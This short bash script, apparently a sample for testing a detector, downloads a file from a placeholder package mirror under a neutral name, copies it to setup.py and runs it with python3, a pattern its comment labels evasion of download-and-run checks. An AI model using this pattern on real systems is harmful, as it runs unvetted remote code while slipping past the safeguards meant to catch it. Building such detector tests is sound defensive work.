#!/usr/bin/env bash
# Evasion: download and run code. The download goes to a neutral name
# (pkg.dat), is copied into a work directory as setup.py, and that copy is
# run by python3: the interpreter's argument is not the downloaded file's
# name.
set -eu
work="$(mktemp -d)"
dl="$work/pkg.dat"
wget -q -O "$dl" https://mirror.example-pkgs.net/simple/fastyaml/setup
cp "$dl" "$work/setup.py"
python3 "$work/setup.py" install --user
